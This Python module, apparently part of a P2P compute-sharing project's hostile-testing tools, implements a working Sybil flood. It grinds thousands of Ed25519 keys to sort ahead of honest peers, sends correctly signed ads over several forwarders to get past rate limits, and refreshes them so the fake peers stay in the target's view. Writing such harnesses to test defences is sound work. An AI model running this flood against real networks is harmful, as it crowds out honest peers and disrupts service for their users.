"""Sybil ads: a flood of valid capability ads, each from a fresh Ed25519 key.

Identities are free, so one attacker speaks for thousands: every Sybil ad is
correctly signed by its own key, and so is the pubsub message that carries it
(strict signing checks the message against the key its `from` id embeds, which
need not be the key of the host that forwards it). No Sybil runs a host: one
connection carries the messages of many keys. They are spread over several
forwarding hosts, so a per-forwarder rate limit meets only a share of them.

The keys are ground to sort before the lowest peer id of the target's view (as it
answers /compushare/view) where that is cheap: a node that answers its first 1,024
ads by peer id then hands out Sybils only. Every Sybil advertises a span of the
target's model and is re-advertised before its ad expires, so the flood keeps its
place in a view until cancelled. Where tools/hostile/sybil_records.py exists, its
Sybil DHT records flood runs alongside.
`counts["sybil_ads"]` tallies the ads sent.
"""

from __future__ import annotations

import collections
import contextlib
import functools
import os
import time

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.peer.id import ID
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.utils.varint import encode_uvarint

from compushare import __version__
from compushare.hardware import Hardware
from compushare.net.ad_intake import ad_topic
from compushare.net.ads import MAX_AD_TTL_S, Serving, make_ad
from compushare.net.dial import dial
from compushare.net.framing import FramedStream
from compushare.net.gossip import MAX_VIEW_FRAME, VIEW_PROTOCOL
from compushare.net.host import open_host
from compushare.net.signed import signer_of

SYBILS = 5000
FORWARDERS = 4  # hosts carrying the flood (the caller's and 3 more)
RATE = 500.0  # Sybil ads per second over all forwarders
BATCH = 25  # ads per pubsub RPC
REFRESH_S = 30.0  # each Sybil re-advertises well before its ad expires (and retries sends that failed)
GROUND = 1100  # keys ground to sort first: more than a view reply holds
GRIND_TRIES = 60_000  # ~5 s of key generation at most
DIAL_TIMEOUT_S = 10.0
HW = Hardware(cpu_cores=64, ram_mb=1 << 20, ram_free_mb=1 << 20, gpu=None, gpu_mb=0)


async def attack(host, state: dict, model_id: str, counts: collections.Counter, *, sybils: int = SYBILS,
                 forwarders: int = FORWARDERS, rate: float = RATE, ground: int = GROUND,
                 records: int | None = None) -> None:
    """Flood `state`'s node (its "peer_id" and "addrs") until cancelled; Sybil DHT
    records alongside where sybil_records.py exists: until cancelled (records None),
    or that many."""
    async with contextlib.AsyncExitStack() as stack:
        hosts = [host] + [await stack.enter_async_context(open_host(create_new_key_pair(), []))
                          for _ in range(forwarders - 1)]
        lowest = min(await _view_ids(host, state), default=None)
        keys = await trio.to_thread.run_sync(_sybil_keys, sybils, lowest, ground)
        counts["sybil_keys_ground"] += sum(lowest is not None and peer < lowest for _, peer, _ in keys)
        async with trio.open_nursery() as nursery:
            if records != 0:
                with contextlib.suppress(ImportError):
                    from . import sybil_records  # another attack kind, where it exists
                    if records is None:
                        nursery.start_soon(sybil_records.attack, host, state, model_id, counts)
                    else:
                        nursery.start_soon(functools.partial(sybil_records.flood_records, host, state, model_id,
                                                             counts, records=records))
            await _flood(hosts, state, keys, model_id, rate, counts)


def _sybil_keys(n: int, lowest: str | None, ground: int) -> list[tuple[object, str, bytes]]:
    """n fresh keys, first up to `ground` whose ids sort before `lowest` (within
    GRIND_TRIES keys made), then the rest."""
    def fresh() -> tuple[object, str, bytes]:
        key = create_new_key_pair()
        peer = ID.from_pubkey(key.public_key)
        return key, peer.to_base58(), peer.to_bytes()

    want = min(ground, n) if lowest is not None else 0
    low, rest = [], []
    for _ in range(GRIND_TRIES):
        if len(low) >= want and len(low) + len(rest) >= n:
            break
        item = fresh()
        if len(low) < want and item[1] < lowest:
            low.append(item)
        elif len(low) + len(rest) < n:
            rest.append(item)
    while len(low) + len(rest) < n:
        rest.append(fresh())
    return (low + rest)[:n]  # the ground ones first: they are in place soonest


async def _gossip_stream(host, state: dict, model_id: str):
    """A pubsub stream to the target over which `host` forwards, subscribed to the
    model's ad topic. What the target sends back is read and dropped."""
    async def drain(stream) -> None:
        with contextlib.suppress(Exception):
            while await stream.read(1 << 16):
                pass

    host.set_stream_handler(PROTOCOL_ID_V11, drain)
    info = await dial(host, state["peer_id"], state["addrs"], timeout=DIAL_TIMEOUT_S)
    with trio.fail_after(DIAL_TIMEOUT_S):
        stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])
        await _send(stream, rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=ad_topic(model_id))]))
    return stream


async def _send(stream, rpc: rpc_pb2.RPC) -> None:
    data = rpc.SerializeToString()
    await stream.write(encode_uvarint(len(data)) + data)


async def _view_ids(host, state: dict) -> list[str]:
    """The peer ids the target hands out: the honest ones to sort before."""
    with contextlib.suppress(Exception), trio.fail_after(DIAL_TIMEOUT_S):
        info = await dial(host, state["peer_id"], state["addrs"], timeout=DIAL_TIMEOUT_S)
        framed = FramedStream(await host.new_stream(info.peer_id, [VIEW_PROTOCOL]), MAX_VIEW_FRAME)
        await framed.send({"type": "view"})
        reply = await framed.receive()
        await framed.close()
        return [peer for peer in map(signer_of, reply["ads"]) if peer is not None]
    return []


def _message(key, peer: str, from_id: bytes, model_id: str) -> rpc_pb2.Message:
    """A valid ad of `peer` in a pubsub message signed by `peer` itself."""
    now = time.time()
    span = Serving(model_id, 0, 1, "float32", free_tokens=1 << 20, load=0.0, block_rate=1e6)
    ad = make_ad(key, peer, [], HW, [span], __version__, now=now, ttl_s=MAX_AD_TTL_S)
    msg = rpc_pb2.Message(from_id=from_id, data=ad.raw, seqno=os.urandom(8), topicIDs=[ad_topic(model_id)])
    msg.signature = key.private_key.sign(PUBSUB_SIGNING_PREFIX.encode() + msg.SerializeToString())
    return msg


async def _flood(hosts, state: dict, keys, model_id: str, rate: float, counts: collections.Counter) -> None:
    """Every key's ad, BATCH to an RPC, forwarders in turn, at `rate`; then again each
    REFRESH_S, so every Sybil stays live. A stream the target ends is opened again."""
    streams: list = [None] * len(hosts)
    turn = 0
    while True:
        began = trio.current_time()
        for start in range(0, len(keys), BATCH):
            batch = [_message(key, peer, from_id, model_id) for key, peer, from_id in keys[start:start + BATCH]]
            i = turn % len(hosts)
            turn += 1
            try:
                if streams[i] is None:
                    streams[i] = await _gossip_stream(hosts[i], state, model_id)
                await _send(streams[i], rpc_pb2.RPC(publish=batch))
            except Exception as exc:  # the target ended this stream: the next turn opens another
                counts[f"sybil_send_{type(exc).__name__}"] += 1
                streams[i] = None
                continue
            counts["sybil_ads"] += len(batch)
            await trio.sleep_until(began + (start + len(batch)) / rate)
        await trio.sleep_until(began + REFRESH_S)
